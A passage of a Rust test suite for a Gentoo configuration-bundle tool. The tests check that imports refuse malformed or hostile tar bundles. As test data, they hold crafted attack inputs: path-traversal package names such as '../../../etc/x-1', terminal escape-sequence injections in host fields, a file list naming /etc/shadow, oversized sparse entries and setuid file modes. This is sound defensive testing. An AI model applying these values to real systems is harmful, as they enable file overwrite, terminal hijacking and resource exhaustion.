        "/var/db/repos/gentoo/profiles/default/linux/amd64/23.0",
    ] {
        let mut e = entries.clone();
        relink(&mut e, target);
        let e = with_manifest(&e, |m| m["profile"]["link"] = target.into());
        let p = w.scratch.path().join("relinked.tar");
        std::fs::write(&p, raw_tar(&e)).unwrap();
        let o = w.diff(&p);
        assert_eq!(o.status.code(), Some(0), "{target}: {}", util::stderr(&o));
    }
}

/// Peak RSS in KiB of `cmd` run under `/usr/bin/time`, and its output.
fn with_peak_rss(cmd: &mut std::process::Command, dir: &Path) -> (Output, u64) {
    let f = dir.join("rss.txt");
    let mut t = std::process::Command::new("/usr/bin/time");
    t.arg("-f")
        .arg("%M")
        .arg("-o")
        .arg(&f)
        .arg(cmd.get_program());
    t.args(cmd.get_args());
    for (k, v) in cmd.get_envs() {
        if let Some(v) = v {
            t.env(k, v);
        }
    }
    let o = t.output().unwrap();
    // GNU time writes "Command exited with non-zero status N" before the figure.
    let text = std::fs::read_to_string(&f).unwrap();
    let kib = text.lines().last().unwrap().trim().parse().unwrap();
    (o, kib)
}

#[test]
fn entries_are_checked_against_the_manifest_before_reading() {
    if !util::require(
        Path::new("/usr/bin/time").exists(),
        "/usr/bin/time (GNU time) is installed",
    ) {
        return;
    }
    let mut w = World::new();
    let good = w.export("6.1.0");
    assert!(w.import(&good, "laptop").status.success());
    let entries = read_entries(&good);
    const HUGE: u64 = 1 << 30;
    // A tar whose last entry claims HUGE bytes, as a sparse file (nothing big on disk).
    let sparse = |name: &str, entries: &[RawEntry], path: &str| -> PathBuf {
        let mut bytes = raw_tar(entries);
        bytes.truncate(bytes.len() - 1024);
        let mut h = tar::Header::new_gnu();
        h.set_path(path).unwrap();
        h.set_entry_type(tar::EntryType::Regular);
        h.set_mode(0o644);
        h.set_size(HUGE);
        h.set_mtime(1);
        h.set_cksum();
        bytes.extend_from_slice(h.as_bytes());
        let p = w.scratch.path().join(name);
        std::fs::write(&p, &bytes).unwrap();
        let f = std::fs::OpenOptions::new().write(true).open(&p).unwrap();
        f.set_len(bytes.len() as u64 + HUGE + 1024).unwrap();
        p
    };
    let unlisted = sparse("unlisted.tar", &entries, "etc/portage/package.use/huge");
    let too_big = {
        let e = with_manifest(&entries, |m| {
            let mut f = listed_file("etc/portage/patches/huge.patch", b"");
            f["size"] = HUGE.into();
            m["files"].as_array_mut().unwrap().push(f);
        });
        sparse("too-big.tar", &e, "etc/portage/patches/huge.patch")
    };
    let lying_header = {
        let e: Vec<RawEntry> = entries
            .iter()
            .filter(|e| e.0 != b"var/lib/portage/world_sets")
            .cloned()
            .collect();
        sparse("lying.tar", &e, "var/lib/portage/world_sets")
    };
    for (bundle, want) in [
        (
            &unlisted,
            "\"etc/portage/package.use/huge\": not listed in the manifest",
        ),
        (
            &too_big,
            "\"etc/portage/patches/huge.patch\": 1073741824 bytes, more than",
        ),
        (
            &lying_header,
            "\"var/lib/portage/world_sets\": size 1073741824 in the tar header",
        ),
    ] {
        for args in [
            vec![
                "machine",
                "import",
                bundle.to_str().unwrap(),
                "--name",
                "laptop",
            ],
            vec!["diff", "--machine", "laptop", bundle.to_str().unwrap()],
        ] {
            let (o, kib) = with_peak_rss(util::gbuild(&w.store).args(&args), w.scratch.path());
            let err = util::stderr(&o);
            assert!(!o.status.success(), "{args:?}");
            assert!(err.contains(want), "{args:?}: {err}");
            assert!(
                kib < 100 * 1024,
                "{args:?}: peak RSS {kib} KiB for a refused entry"
            );
        }
    }
}

#[test]
fn imports_of_one_machine_are_serialized_and_leave_nothing_behind() {
    let mut w = World::new();
    let a = w.export("6.1.0");
    w.host.edit("etc/hostname", "testhost", "otherhost");
    let b = w.export("6.1.0");
    assert!(w.import(&a, "laptop").status.success());
    // A crashed import's leftover goes at the next import.
    let leftover = w.machine("laptop").join(".tmp-config-4194000-0");
    std::fs::create_dir_all(leftover.join("etc/portage")).unwrap();
    let mut children: Vec<_> = (0..8)
        .map(|i| {
            util::gbuild(&w.store)
                .args(["machine", "import"])
                .arg(if i % 2 == 0 { &a } else { &b })
                .args(["--name", "laptop"])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for c in children.drain(..) {
        let o = c.wait_with_output().unwrap();
        assert!(o.status.success(), "{}", util::stderr(&o));
    }
    let record: serde_json::Value =
        serde_json::from_slice(&std::fs::read(w.machine("laptop").join("import.json")).unwrap())
            .unwrap();
    let config: serde_json::Value = serde_json::from_slice(
        &std::fs::read(w.machine("laptop").join("config/gbuild-bundle.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(
        record["host"], config["host"],
        "import.json names the bundle in config/"
    );
    let hidden: Vec<String> = std::fs::read_dir(w.machine("laptop"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(hidden.is_empty(), "{hidden:?}");
}

#[test]
fn a_tree_that_cannot_be_unpacked_is_refused_and_leaves_no_machine() {
    let mut w = World::new();
    let good = w.export("6.1.0");
    let entries = read_entries(&good);
    // package.mask is a file; an entry below it cannot exist on disk.
    let e = with_manifest(&entries, |m| {
        m["files"]
            .as_array_mut()
            .unwrap()
            .push(listed_file("etc/portage/package.mask/x", b"a/b\n"));
    });
    let mut e = e;
    e.push((
        b"etc/portage/package.mask/x".to_vec(),
        tar::EntryType::Regular,
        b"a/b\n".to_vec(),
        Vec::new(),
    ));
    let p = w.scratch.path().join("file-and-below.tar");
    std::fs::write(&p, raw_tar(&e)).unwrap();
    let o = w.import(&p, "fresh");
    let err = util::stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("\"etc/portage/package.mask/x\""), "{err}");
    assert!(!w.machine("fresh").exists());
    let o = util::output(util::gbuild(&w.store).args(["machine", "list"]));
    assert!(!util::stdout(&o).contains("fresh"), "{}", util::stdout(&o));
}

#[test]
fn bundle_text_is_escaped_on_the_terminal() {
    let mut w = World::new();
    let good = w.export("6.1.0");
    assert!(w.import(&good, "laptop").status.success());
    let entries = read_entries(&good);
    let e = with_manifest(&entries, |m| {
        m["host"] = "evil\u{1b}]0;owned\u{7}\u{1b}[2J".into();
        m["kernel"] = "6.1.0\u{1b}[31m\u{9b}1m".into();
    });
    let p = w.scratch.path().join("escapes.tar");
    std::fs::write(&p, raw_tar(&e)).unwrap();
    let no_raw = |what: &str, s: &[u8]| {
        assert!(
            !s.iter().any(|&b| b == 0x1b || b == 0x07),
            "{what}: raw control bytes: {}",
            String::from_utf8_lossy(s)
        );
        assert!(!String::from_utf8_lossy(s).contains('\u{9b}'), "{what}");
    };
    let o = w.import(&p, "laptop");
    assert!(o.status.success(), "{}", util::stderr(&o));
    no_raw("import stdout", &o.stdout);
    no_raw("import stderr", &o.stderr);
    assert!(
        util::stdout(&o).contains("\\x1b[31m"),
        "{}",
        util::stdout(&o)
    );
    let o = util::output(util::gbuild(&w.store).args(["machine", "list"]));
    no_raw("list", &o.stdout);
    assert!(
        util::stdout(&o).contains("evil\\x1b"),
        "{}",
        util::stdout(&o)
    );
    let o = w.diff(&good);
    no_raw("diff", &o.stdout);
    assert!(
        util::stdout(&o).contains("\\x1b[31m"),
        "{}",
        util::stdout(&o)
    );
    // A tar header whose size field holds escape bytes: the tar error quotes them.
    let mut bytes = raw_tar(&entries);
    let second = 512 + entries[0].2.len().div_ceil(512) * 512;
    bytes[second + 124..second + 124 + 10].copy_from_slice(b"\x1b[2J\x1b]0;x\x07");
    let p = w.scratch.path().join("bad-header.tar");
    std::fs::write(&p, &bytes).unwrap();
    let o = w.import(&p, "laptop");
    assert_eq!(o.status.code(), Some(1));
    no_raw("tar error", &o.stderr);
}

#[test]
fn store_copies_are_never_group_or_other_writable() {
    let mut w = World::new();
    let good = w.export("6.1.0");
    let e = with_manifest(&read_entries(&good), |m| {
        for f in m["files"].as_array_mut().unwrap() {
            if f["path"] == "etc/portage/package.use" || f["path"] == "etc/portage/package.use/foo"
            {
                f["mode"] = 0o7777.into();
            }
        }
    });
    let p = w.scratch.path().join("modes.tar");
    std::fs::write(&p, raw_tar(&e)).unwrap();
    assert!(w.import(&p, "laptop").status.success());
    use std::os::unix::fs::PermissionsExt;
    for rel in ["etc/portage/package.use", "etc/portage/package.use/foo"] {
        let mode = std::fs::metadata(w.machine("laptop").join("config").join(rel))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777;
        assert_eq!(mode & 0o7022, 0, "{rel}: {mode:o}");
        assert_eq!(mode & 0o700, 0o700, "{rel}: {mode:o}");
    }
}

#[test]
fn status_reports_a_corrupt_state_file() {
    let mut w = World::new();
    let good = w.export("6.1.0");
    assert!(w.import(&good, "laptop").status.success());
    let state = w.machine("laptop").join("state.json");
    std::fs::write(&state, "{\"state\": \"build").unwrap();
    let o = util::output(util::gbuild(&w.store).args(["status", "--machine", "laptop"]));
    let err = util::stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{}", util::stdout(&o));
    assert!(err.contains(&state.display().to_string()), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(!util::stdout(&o).contains("idle"));
}

/// The `installed.json` of a bundle, parsed.
fn installed_of(bundle: &Path) -> serde_json::Value {
    let e = read_entries(bundle);
    let i = e
        .iter()
        .find(|e| e.0 == b"installed.json")
        .expect("installed.json in the bundle");
    serde_json::from_slice(&i.2).unwrap()
}

/// `entries` with `installed.json` replaced by `data` (the manifest entry made to match).
fn with_installed(entries: &[RawEntry], data: &[u8]) -> Vec<RawEntry> {
    let mut out = with_manifest(entries, |m| {
        for f in m["files"].as_array_mut().unwrap() {
            if f["path"] == "installed.json" {
                *f = listed_file("installed.json", data);
            }
        }
    });
    for e in &mut out {
        if e.0 == b"installed.json" {
            e.2 = data.to_vec();
        }
    }
    out
}

#[test]
fn installed_packages_travel_in_the_bundle() {
    let mut w = World::new();
    let b = w.export("6.1.0");
    let names = tar_names(&b);
    assert!(names.iter().any(|n| n == "installed.json"), "{names:?}");
    assert!(
        !names.iter().any(|n| n.starts_with("var/db")),
        "no vdb path in the tar: {names:?}"
    );
    let doc = installed_of(&b);
    let pkgs = doc["packages"].as_array().unwrap();
    let cpvs: Vec<String> = pkgs
        .iter()
        .map(|p| {
            format!(
                "{}/{}",
                p["category"].as_str().unwrap(),
                p["pf"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(cpvs, ["app-misc/foo-1.2", "dev-lang/python-3.12.3"]);
    let foo = &pkgs[0]["files"];
    assert_eq!(foo["SLOT"], "0\n");
    assert_eq!(foo["RDEPEND"], "dev-libs/libbar:=\n");
    assert_eq!(foo["COUNTER"], "1234\n");
    assert_eq!(foo["repository"], "gentoo\n");
    for left_out in [
        "CONTENTS",
        "environment.bz2",
        "foo-1.2.ebuild",
        "NEEDED.ELF.2",
    ] {
        assert!(foo.get(left_out).is_none(), "{left_out} carried: {foo}");
    }
    assert_eq!(
        pkgs[1]["files"]["PROVIDES"],
        "x86_64: libpython3.12.so.1.0\n"
    );

    // Imported as it is: the machine's configuration carries it, and nothing says the gate is
    // blind.
    let o = w.import(&b, "laptop");
    assert!(o.status.success(), "{}", util::stderr(&o));
    assert!(
        !util::stderr(&o).contains("installed-package database"),
        "{}",
        util::stderr(&o)
    );
    let stored = std::fs::read(w.machine("laptop").join("config/installed.json")).unwrap();
    assert_eq!(
        serde_json::from_slice::<serde_json::Value>(&stored).unwrap(),
        doc
    );

    // The host upgrades foo and drops a USE flag of python: `diff` shows it as information,
    // not as a difference (exit 0).
    let vdb = w.host.path("var/db/pkg");
    std::fs::rename(vdb.join("app-misc/foo-1.2"), vdb.join("app-misc/foo-1.3")).unwrap();
    std::fs::write(vdb.join("app-misc/foo-1.3/PF"), "foo-1.3\n").unwrap();
    std::fs::write(vdb.join("dev-lang/python-3.12.3/USE"), "amd64\n").unwrap();
    let b2 = w.export("6.1.0");
    let o = w.diff(&b2);
    let out = util::stdout(&o);
    assert_eq!(o.status.code(), Some(0), "{out}");
    let info: Vec<&str> = out
        .lines()
        .skip_while(|l| !l.starts_with("installed packages"))
        .skip(1)
        .map(str::trim)
        .collect();
    assert_eq!(
        info,
        [
            "installed app-misc/foo:0: foo-1.2 -> foo-1.3",
            "installed dev-lang/python-3.12.3: USE \"sqlite\" -> \"\"",
        ],
        "{out}"
    );

    // A format-1 bundle (no installed-package database) still imports, with a notice.
    let entries = read_entries(&b);
    let mut old: Vec<RawEntry> = with_manifest(&entries, |m| {
        m["format"] = 1.into();
        m["files"]
            .as_array_mut()
            .unwrap()
            .retain(|f| f["path"] != "installed.json");
    });
    old.retain(|e| e.0 != b"installed.json");
    let p = w.scratch.path().join("format1.tar");
    std::fs::write(&p, raw_tar(&old)).unwrap();
    let o = w.import(&p, "old");
    assert!(o.status.success(), "{}", util::stderr(&o));
    let err = util::stderr(&o);
    assert!(
        err.contains("format 1") && err.contains("exported again"),
        "{err}"
    );

    // Unsafe or oversized databases are refused before anything changes.
    let config_manifest = w.machine("laptop").join("config/gbuild-bundle.json");
    let before = std::fs::read(&config_manifest).unwrap();
    let doc_with = |edit: &dyn Fn(&mut serde_json::Value)| -> Vec<u8> {
        let mut d = doc.clone();
        edit(&mut d);
        serde_json::to_vec(&d).unwrap()
    };
    let cases: Vec<(&str, Vec<RawEntry>, &str)> = vec![
        (
            "dotdot category",
            with_installed(
                &entries,
                &doc_with(&|d| d["packages"][0]["category"] = "..".into()),
            ),
            "not a category or package name",
        ),
        (
            "slash in pf",
            with_installed(
                &entries,
                &doc_with(&|d| d["packages"][0]["pf"] = "../../../etc/x-1".into()),
            ),
            "not a category or package name",
        ),
        (
            "file list",
            with_installed(
                &entries,
                &doc_with(&|d| d["packages"][0]["files"]["CONTENTS"] = "obj /etc/shadow\n".into()),
            ),
            "\"CONTENTS\" is not one a bundle carries",
        ),
        (
            "value too large",
            with_installed(
                &entries,
                &doc_with(&|d| {
                    d["packages"][0]["files"]["DEPEND"] = "x".repeat((1 << 20) + 1).into()
                }),
            ),
            "more than the 1048576 allowed",
        ),
        (
            "database too large",
            with_manifest(&entries, |m| {
                for f in m["files"].as_array_mut().unwrap() {
                    if f["path"] == "installed.json" {
                        f["size"] = (64u64 << 20).into();
                    }
                }
            }),
            "the installed-package database may have",
        ),
        (
            "not json",
            with_installed(&entries, b"{\"format\":1,\"packages\":[{"),
            "invalid document",
        ),
    ];
    for (name, e, want) in cases {
        let p = w
            .scratch
            .path()
            .join(format!("bad-installed-{}.tar", name.replace(' ', "-")));
        std::fs::write(&p, raw_tar(&e)).unwrap();
        for machine in ["laptop", "fresh"] {
            let o = w.import(&p, machine);
            let err = util::stderr(&o);
            assert_eq!(
                o.status.code(),
                Some(1),
                "{name}: import into {machine} must fail"
            );
            assert!(
                err.contains("\"installed.json\"") && err.contains(want),
                "{name}: error names installed.json and {want:?}: {err}"
            );
            assert_eq!(err.lines().count(), 1, "{name}: one line: {err}");
        }
        assert!(!w.machine("fresh").exists(), "{name}: nothing imported");
        assert_eq!(std::fs::read(&config_manifest).unwrap(), before, "{name}");
    }
}
